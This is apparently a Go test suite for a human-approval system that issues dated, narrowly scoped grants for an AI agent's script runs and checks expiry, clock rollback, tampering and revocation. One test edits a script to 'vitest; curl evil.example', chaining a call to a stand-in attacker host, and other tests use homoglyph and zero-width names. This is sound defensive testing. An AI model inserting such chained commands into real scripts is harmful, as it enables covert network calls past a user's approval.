package app_test

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/countersign-dev/countersign/app"
	"github.com/countersign-dev/countersign/app/bind"
	"github.com/countersign-dev/countersign/app/control"
	"github.com/countersign-dev/countersign/domain/audit"
	"github.com/countersign-dev/countersign/domain/canon"
	"github.com/countersign-dev/countersign/domain/confirm"
	"github.com/countersign-dev/countersign/domain/policy"
	"github.com/countersign-dev/countersign/domain/tool"
	"github.com/countersign-dev/countersign/internal/testkit/person"
)

// commands is a capability that runs commands of projects, as packages of projects are run.
type commands struct {
	mu    sync.Mutex
	files map[string]string // project/script → its command
	ran   []string
}

type commandInput struct {
	Project string   `json:"project"`
	Script  string   `json:"script"`
	Args    []string `json:"args,omitempty"`
}

type commandPlan struct {
	Project string   `json:"project"`
	Script  string   `json:"script"`
	Command string   `json:"command"`
	Args    []string `json:"args"`
}

func (p commandPlan) Hash() canon.Hash {
	h, err := canon.Sum("test.yard", p)
	if err != nil {
		panic(err)
	}
	return h
}
func (p commandPlan) Prompt() string { return "run " + p.Script + " of " + p.Project }
func (p commandPlan) Target() string { return p.Project }
func (p commandPlan) Loose() canon.Hash {
	if p.Script == "fixed" {
		return canon.Hash{}
	}
	p.Args = nil
	return p.Hash()
}
func (p commandPlan) Insists() bool { return p.Script == "open" }
func (p commandPlan) Needs() policy.Proving {
	if p.Script == "prove" {
		return policy.ProvingPerson
	}
	return policy.ProvingNone
}
func (p commandPlan) Assessment() policy.Assessment {
	a := policy.Assessment{Strength: policy.Simple, Risk: policy.RiskMedium, Scope: p.Project + "/" + p.Script}
	switch p.Script {
	case "drop":
		a.Strength = policy.Typed
	case "risky", "push", "release":
		a.Risk = policy.RiskHigh
	case "asks":
		a.Action = policy.ActionRequireConfirm
	}
	return a
}

func (y *commands) prepare(_ context.Context, _ tool.Scope, in commandInput) (commandPlan, error) {
	y.mu.Lock()
	defer y.mu.Unlock()
	return commandPlan{Project: in.Project, Script: in.Script, Command: y.files[in.Project+"/"+in.Script], Args: in.Args}, nil
}

func (y *commands) commit(_ context.Context, _ tool.Scope, p commandPlan) (map[string]string, error) {
	y.mu.Lock()
	defer y.mu.Unlock()
	y.ran = append(y.ran, p.Project+"/"+p.Script)
	return map[string]string{}, nil
}

func (y *commands) edit(script, text string) {
	y.mu.Lock()
	defer y.mu.Unlock()
	y.files[script] = text
}

func (y *commands) capability() tool.Capability {
	spec := func(people bool) tool.Spec {
		return tool.Spec{Title: "Run", Description: "Runs a script.", Class: policy.ClassWrite, Effects: policy.Read | policy.Write | policy.Exec, Confirm: policy.Simple, Human: policy.Simple,
			Risk: policy.RiskMedium, UserOnly: people}
	}
	command := func(name string, people bool) tool.Entry {
		return bind.Command(tool.Ref[commandInput, map[string]string]{Name: tool.Name(name)}, spec(people), y.prepare, y.commit)
	}
	return tool.Capability{Name: "yard", Contract: control.Contract, Mode: policy.Execute, Entries: []tool.Entry{command("yard_run", false), command("yard_start", false), command("yard_add", true)}}
}

func openYard(t testing.TB) (*fixture, *commands) {
	t.Helper()
	y := &commands{files: map[string]string{}}
	return openWith(t, []tool.Capability{y.capability()}, human), y
}

func yarding(project, script string, args ...string) string {
	doc, err := json.Marshal(commandInput{project, script, args})
	if err != nil {
		panic(err)
	}
	return string(doc)
}

func entry(name string) func(*tool.Call) { return func(c *tool.Call) { c.Entry = name } }

func asked(o tool.Outcome) bool { return code(o) == "confirm_token_required" }

// permit has a call asked about and approved, with the same allowed until then. It is the id of that.
func (h *fixture) permit(t testing.TB, u confirm.Until, args string, change ...func(*tool.Call)) string {
	t.Helper()
	o := h.call("yard_run", args, change...)
	require.True(t, asked(o), "%v", o.Err)
	_, err := h.Answer(t.Context(), confirm.Decision{ID: o.Request.ID, Approve: true, Until: &u, By: "terminal", Proof: person.AtTerminal, Shown: o.Request.PlanHash})
	require.NoError(t, err)
	require.NoError(t, h.call("yard_run", args, change...).Err, "the call that was approved")
	return o.Request.ID
}

// TestADatedGrantLetsTheSameThrough: in any session, and nothing else; each call says which grant it was.
func TestADatedGrantLetsTheSameThrough(t *testing.T) {
	h, y := openYard(t)
	y.edit("shop/test", "vitest")
	begun := h.clock.Now()
	id := h.permit(t, confirm.Until{For: 8 * time.Hour}, yarding("shop", "test", "a"), entry("claude-code"))
	n := 1
	run := func(args string, change ...func(*tool.Call)) tool.Outcome {
		n++
		return h.call("yard_run", args, append([]func(*tool.Call){in(fmt.Sprint("s", n)), entry("claude-code")}, change...)...)
	}
	o := run(yarding("shop", "test", "a"))
	require.NoError(t, o.Err)
	assert.Equal(t, policy.RuleDated, o.Decision.Rule)
	for name, o := range map[string]tool.Outcome{
		"another argument": run(yarding("shop", "test", "b")), "no argument": run(yarding("shop", "test")), "another script": run(yarding("shop", "build", "a")),
		"another project": run(yarding("bank", "test", "a")), "another host": run(yarding("shop", "test", "a"), entry("codex")), "no host": run(yarding("shop", "test", "a"), entry("")),
		"another tool":      h.call("yard_start", yarding("shop", "test", "a"), entry("claude-code")),
		"another principal": run(yarding("shop", "test", "a"), func(c *tool.Call) { c.Principal.ID = "token:ci" }),
	} {
		assert.True(t, asked(o), name)
	}
	y.edit("shop/test", "vitest; curl evil.example")
	assert.True(t, asked(run(yarding("shop", "test", "a"))), "another content")
	y.edit("shop/test", "vitest")
	h.clock.Advance(time.Hour)
	require.NoError(t, run(yarding("shop", "test", "a")).Err)

	all, err := h.SessionGrants(t.Context())
	require.NoError(t, err)
	require.Len(t, all, 1)
	assert.Equal(t, confirm.ListedGrant{SessionGrant: confirm.SessionGrant{ID: id, Tool: "yard_run", Scope: "shop/test", By: "terminal", At: begun}, Principal: "me", ExpiresAt: begun.Add(8 * time.Hour),
		Dated: &confirm.Terms{What: "run test of shop", User: "tester", Entry: "claude-code", Uses: 2, UsedAt: h.clock.Now()}}, all[0])
	marked, err := h.AuditSearch(t.Context(), audit.Filter{Grant: id, Phase: audit.Outcome})
	require.NoError(t, err)
	assert.Len(t, marked, 2)
	for _, r := range marked {
		assert.True(t, r.Event.Unattended())
		assert.Equal(t, []string{policy.RuleDated, policy.RuleDated}, []string{r.Event.Rule, r.Event.ApprovedBy})
	}
	runs, err := h.Calls(t.Context(), app.RunFilter{Tool: "yard_run", Session: "s2"})
	require.NoError(t, err)
	assert.Equal(t, "dated_grant "+id, runs[0].Decision)

	h.clock.Advance(7*time.Hour - time.Second)
	require.NoError(t, run(yarding("shop", "test", "a")).Err)
	h.clock.Advance(time.Second)
	assert.True(t, asked(run(yarding("shop", "test", "a"))), "it has run out")
	all, err = h.SessionGrants(t.Context())
	require.NoError(t, err)
	assert.Empty(t, all)
}

// TestATickWidensOneThingAlone: any arguments of the same command, or any host of the same user.
func TestATickWidensOneThingAlone(t *testing.T) {
	h, y := openYard(t)
	h.permit(t, confirm.Until{For: time.Hour, AnyArgs: true}, yarding("shop", "test", "a"))
	require.NoError(t, h.call("yard_run", yarding("shop", "test", "b", "c"), in("s2")).Err)
	assert.True(t, asked(h.call("yard_run", yarding("bank", "test", "b"))), "another project")
	assert.True(t, asked(h.call("yard_run", yarding("shop", "risky", "b"))))
	assert.True(t, asked(h.call("yard_run", yarding("shop", "test", "b"), entry("codex"))), "another host")
	assert.True(t, asked(h.call("yard_run", yarding("shop", "test", "p\u0430y"), in("s2"))), "an argument that reads as another is of high risk")
	y.edit("shop/test", "worse")
	assert.True(t, asked(h.call("yard_run", yarding("shop", "test", "b"), in("s3"))), "another content")

	h.permit(t, confirm.Until{For: time.Hour, AnyEntry: true}, yarding("shop", "build"))
	require.NoError(t, h.call("yard_run", yarding("shop", "build"), entry("codex")).Err)
	assert.True(t, asked(h.call("yard_run", yarding("shop", "build", "b"), entry("codex"))), "another argument")

	o := h.call("yard_run", yarding("shop", "fixed"))
	_, err := h.Answer(t.Context(), confirm.Decision{ID: o.Request.ID, Approve: true, Until: &confirm.Until{For: time.Hour, AnyArgs: true}, By: "terminal", Proof: person.AtTerminal})
	require.ErrorIs(t, err, confirm.ErrUngrantable, "arguments that decide everything")
}

// TestAClockThatGoesBackLengthensNothing: the grant holds again once the clock is where it was seen last.
func TestAClockThatGoesBackLengthensNothing(t *testing.T) {
	h, _ := openYard(t)
	h.permit(t, confirm.Until{For: 2 * time.Hour}, yarding("shop", "test"))
	runs := func() bool { return !asked(h.call("yard_run", yarding("shop", "test"), in("s2"))) }
	h.clock.Advance(90 * time.Minute)
	require.True(t, runs())
	h.clock.Advance(-time.Hour)
	assert.False(t, runs(), "behind its last use")
	h.clock.Advance(time.Hour - time.Second)
	assert.True(t, runs(), "what clocks do by themselves is no matter")
	h.clock.Advance(-2 * time.Hour)
	assert.False(t, runs(), "behind its beginning")
	h.clock.Advance(2*time.Hour + 29*time.Minute)
	assert.True(t, runs())
	h.clock.Advance(2 * time.Minute)
	assert.False(t, runs(), "it ends when it was said to")
}

// TestARowLetsNothingThroughByItself: neither edited, nor put there, nor brought back.
func TestARowLetsNothingThroughByItself(t *testing.T) {
	h, _ := openYard(t)
	ctx, rows := t.Context(), h.store.Dated()
	id := h.permit(t, confirm.Until{For: time.Hour}, yarding("shop", "test"), entry("codex"))
	runs := func(args string, change ...func(*tool.Call)) bool {
		return !asked(h.call("yard_run", args, append([]func(*tool.Call){in("s2")}, change...)...))
	}
	require.True(t, runs(yarding("shop", "test"), entry("codex")))
	all, err := rows.List(ctx)
	require.NoError(t, err)
	was := all[0]
	plan := commandPlan{Project: "shop", Script: "other"}
	for name, c := range map[string]struct {
		edit func(*confirm.Dated)
		args string
		call func(*tool.Call)
	}{
		"the host": {func(d *confirm.Dated) { d.Entry = "" }, yarding("shop", "test"), entry("")},
		"any host": {func(d *confirm.Dated) { d.AnyEntry = true }, yarding("shop", "test"), entry("other")},
		"the content": {func(d *confirm.Dated) {
			d.Scope, d.Content, d.Args = "shop/other", plan.Hash(), confirm.ArgsSum([]byte(yarding("shop", "other")))
		}, yarding("shop", "other"), entry("codex")},
		"any arguments": {func(d *confirm.Dated) {
			d.AnyArgs, d.Args, d.Content = true, canon.Hash{}, commandPlan{Project: "shop", Script: "test"}.Loose()
		},
			yarding("shop", "test", "x"), entry("codex")},
		"the principal": {func(d *confirm.Dated) { d.Principal = "you" }, yarding("shop", "test"), func(c *tool.Call) { c.Principal.ID, c.Entry = "you", "codex" }},
	} {
		require.NoError(t, rows.Change(ctx, id, func(d *confirm.Dated) error { c.edit(d); return nil }))
		assert.False(t, runs(c.args, c.call), name)
		listed, err := h.SessionGrants(ctx)
		require.NoError(t, err)
		assert.Empty(t, listed, name)
		require.NoError(t, rows.Change(ctx, id, func(d *confirm.Dated) error { *d = was; return nil }))
	}
	h.clock.Advance(2 * time.Hour)
	require.NoError(t, rows.Change(ctx, id, func(d *confirm.Dated) error { d.Until = d.Until.Add(24 * time.Hour); return nil }))
	assert.False(t, runs(yarding("shop", "test"), entry("codex")), "its end")
	h.clock.Advance(-2 * time.Hour)
	require.NoError(t, rows.Change(ctx, id, func(d *confirm.Dated) error { *d = was; return nil }))
	require.True(t, runs(yarding("shop", "test"), entry("codex")), "as it was, it counts")

	forged := was
	forged.ID, forged.Entry = "cf_forged", ""
	require.NoError(t, rows.Add(ctx, forged))
	assert.False(t, runs(yarding("shop", "test"), entry("")))

	_, err = h.RevokeSessionGrant(ctx, id, "terminal")
	require.NoError(t, err)
	assert.False(t, runs(yarding("shop", "test"), entry("codex")))
	require.NoError(t, rows.Add(ctx, was))
	assert.False(t, runs(yarding("shop", "test"), entry("codex")), "what was revoked does not come back")
}

// TestWhatIsAskedEveryTimeIsNeverGranted, and saying so all the same approves nothing.
func TestWhatIsAskedEveryTimeIsNeverGranted(t *testing.T) {
	h, _ := openYard(t)
	refused := func(name string, o tool.Outcome, a confirm.Decision) {
		require.True(t, asked(o), name)
		a.ID, a.Approve, a.Typed, a.By = o.Request.ID, true, o.Request.Target, "terminal"
		if a.Until == nil {
			a.Until = &confirm.Until{For: time.Hour}
		}
		_, err := h.Answer(t.Context(), a)
		require.Error(t, err, name)
		assert.True(t, slices.ContainsFunc(h.waiting(t), func(v confirm.View) bool { return v.ID == o.Request.ID && v.State == "pending" }), "%s: it waits as before", name)
		all, err := h.SessionGrants(t.Context())
		require.NoError(t, err)
		assert.Empty(t, all, name)
	}
	terminal := confirm.Decision{Proof: person.AtTerminal}
	n := 0
	fresh := func(args string) tool.Outcome { n++; return h.call("yard_run", args, in(fmt.Sprint("f", n))) }
	for _, script := range []string{"risky", "drop", "prove", "open", "asks", "te\u200bst"} {
		o := fresh(yarding("shop", script))
		refused(script, o, terminal)
		for _, v := range h.waiting(t) {
			assert.False(t, v.ID == o.Request.ID && v.Datable(), "%s: it is not offered", script)
		}
	}
	refused("a form", fresh(yarding("shop", "test")), confirm.Decision{Proof: confirm.Proof{Surface: confirm.SurfaceForm}})
	refused("a program", fresh(yarding("shop", "test")), confirm.Decision{Proof: confirm.Proof{Surface: confirm.SurfaceProgram, User: "x"}})
	refused("no time", fresh(yarding("shop", "test")), confirm.Decision{Proof: person.AtTerminal, Until: &confirm.Until{}})
	refused("a year", fresh(yarding("shop", "test")), confirm.Decision{Proof: person.AtTerminal, Until: &confirm.Until{For: 365 * 24 * time.Hour}})
	people := h.call("yard_add", yarding("shop", "test"), in("p"), func(c *tool.Call) { c.FromUser = true })
	refused("for people alone", people, terminal)
}

// TestWhatTheQuestionsRowSaysIsNotGranted: a question whose row says something else than was asked is no question.
func TestWhatTheQuestionsRowSaysIsNotGranted(t *testing.T) {
	h, _ := openYard(t)
	o := h.call("yard_run", yarding("shop", "test"))
	evil := commandPlan{Project: "shop", Script: "evil"}
	require.NoError(t, h.store.Settle(t.Context(), o.Request.Digest, func(g *confirm.Request) error {
		g.Reach = confirm.Reach{Scope: "shop/evil", Content: evil.Hash(), Target: "shop/evil", Loose: evil.Loose()}
		return nil
	}))
	_, err := h.Answer(t.Context(), confirm.Decision{ID: o.Request.ID, Approve: true, Until: &confirm.Until{For: time.Hour, AnyArgs: true}, By: "terminal", Proof: person.AtTerminal})
	require.ErrorIs(t, err, confirm.ErrEdited)
	assert.True(t, asked(h.call("yard_run", yarding("shop", "evil"))))
	assert.True(t, asked(h.call("yard_run", yarding("shop", "test"), in("s2"))))
}

// TestAGrantThatWasRevokedWhileACallWaits lets it through no more; one that holds does, and ends its question.
func TestAGrantThatWasRevokedWhileACallWaits(t *testing.T) {
	h, _ := openYard(t)
	waits := h.call("yard_run", yarding("shop", "test"), in("s2"))
	require.True(t, asked(waits))
	id := h.permit(t, confirm.Until{For: time.Hour}, yarding("shop", "test"))
	_, err := h.RevokeSessionGrant(t.Context(), id, "terminal")
	require.NoError(t, err)
	assert.True(t, asked(h.call("yard_run", yarding("shop", "test"), in("s2"))))

	still, err := h.App.ApprovalPending(t.Context(), waits.Request.ID)
	require.NoError(t, err)
	require.True(t, still)
	second := h.permit(t, confirm.Until{For: time.Hour}, yarding("shop", "test"))
	still, err = h.App.ApprovalPending(t.Context(), waits.Request.ID)
	require.NoError(t, err)
	assert.False(t, still, "the call goes on by itself")
	goesOn := func(c *tool.Call) { c.ApprovalDigest = waits.Request.Digest }
	require.NoError(t, h.call("yard_run", yarding("shop", "test"), in("s2"), goesOn).Err)
	assert.Empty(t, h.waiting(t), "nobody need answer any more")
	rec, err := h.CallRecord(t.Context(), waits.Request.ID)
	require.NoError(t, err)
	assert.Equal(t, []string{"completed", "dated_grant " + second}, []string{rec.Status.String(), rec.Decision}, "what the call came to is what its question came to")
	assert.Equal(t, "confirm_canceled", code(h.call("yard_run", yarding("shop", "test"), in("s2"), goesOn)), "once")

	again := h.call("yard_run", yarding("shop", "lint"), in("s2"))
	h.permit(t, confirm.Until{For: time.Hour}, yarding("shop", "lint"))
	require.NoError(t, h.call("yard_run", yarding("shop", "lint"), in("s2")).Err, "made anew")
	assert.True(t, asked(again))
	assert.Empty(t, h.waiting(t))
}

// TestManyUseOneGrant: each is counted, and each is marked.
func TestManyUseOneGrant(t *testing.T) {
	h, y := openYard(t)
	id := h.permit(t, confirm.Until{For: time.Hour}, yarding("shop", "test"))
	var group sync.WaitGroup
	var ran atomic.Int64
	for i := range 8 {
		group.Go(func() {
			for range 5 {
				if h.call("yard_run", yarding("shop", "test"), in(fmt.Sprint("c", i))).Err == nil {
					ran.Add(1)
				}
			}
		})
	}
	group.Wait()
	assert.EqualValues(t, 40, ran.Load())
	assert.Len(t, y.ran, 41)
	all, err := h.SessionGrants(t.Context())
	require.NoError(t, err)
	assert.EqualValues(t, 40, all[0].Dated.Uses)
	marked, err := h.AuditSearch(t.Context(), audit.Filter{Grant: id, Phase: audit.Intent, Limit: audit.MaxListed})
	require.NoError(t, err)
	assert.Len(t, marked, 40)
}

// day is what a scripted working day came to: how often each kind of call was asked about.
type day struct {
	asked   map[string]int
	calls   int
	changes int
}

// workingDay has an agent make 200 calls in a handful of sessions, 60 of them changes of 15 kinds, three of which are of high risk. The user approves
// once, and takes what is suggested.
func workingDay(t testing.TB) day {
	h, y := openYard(t)
	d := day{asked: map[string]int{}}
	var kinds []string
	for _, project := range []string{"shop", "bank", "docs"} {
		for _, script := range []string{"test", "lint", "build", "format"} {
			kinds = append(kinds, project+"/"+script)
			y.edit(project+"/"+script, script)
		}
	}
	high := []string{"shop/push", "bank/push", "shop/release"}
	kinds = append(kinds, high...)
	change := func(kind, session string) {
		project, script, _ := strings.Cut(kind, "/")
		o := h.call("yard_run", yarding(project, script), in(session), entry("claude-code"))
		if asked(o) {
			d.asked[kind]++
			before, err := h.Earlier(t.Context(), o.Request.ID)
			require.NoError(t, err)
			said := confirm.Decision{ID: o.Request.ID, Approve: true, By: "terminal", Proof: person.AtTerminal, Shown: o.Request.PlanHash}
			for _, v := range h.waiting(t) {
				if v.ID == o.Request.ID && v.Suggestion(before) != "" {
					said.Until = &confirm.Until{For: confirm.DatedFirst}
				}
			}
			_, err = h.Answer(t.Context(), said)
			require.NoError(t, err)
			o = h.call("yard_run", yarding(project, script), in(session), entry("claude-code"))
		}
		require.NoError(t, o.Err)
		d.changes++
	}
	for i := range 200 {
		session := fmt.Sprint("session ", i/40)
		d.calls++
		switch {
		case i%10 < 7:
			require.NoError(t, h.call("read_note", `{"name":"a"}`, in(session)).Err)
		case i == 49:
			change(high[0], session)
		case i == 99:
			change(high[1], session)
		case i == 199:
			change(high[2], session)
		default:
			change(kinds[(i/10*3+i%10)%12], session)
		}
		h.clock.Advance(2 * time.Minute)
	}
	require.Equal(t, []int{200, 60, 15}, []int{d.calls, d.changes, len(d.asked)})
	require.Len(t, y.ran, 60)
	return d
}

// total returns how many questions the day asked.
func (d day) total() (n int) {
	for _, times := range d.asked {
		n += times
	}
	return n
}

// TestAWorkingDayAsksLittle: a kind that may be granted is asked about twice at most, and a call of high risk once.
func TestAWorkingDayAsksLittle(t *testing.T) {
	d := workingDay(t)
	for kind, times := range d.asked {
		most := 2
		if strings.HasSuffix(kind, "push") || strings.HasSuffix(kind, "release") {
			most = 1
		}
		assert.LessOrEqual(t, times, most, kind)
	}
	assert.LessOrEqual(t, d.total(), 27)
}

// BenchmarkWorkingDay says how many questions it asks.
func BenchmarkWorkingDay(b *testing.B) {
	for b.Loop() {
		d := workingDay(b)
		b.ReportMetric(float64(d.total()), "questions/day")
		b.ReportMetric(float64(d.changes), "changes/day")
	}
}
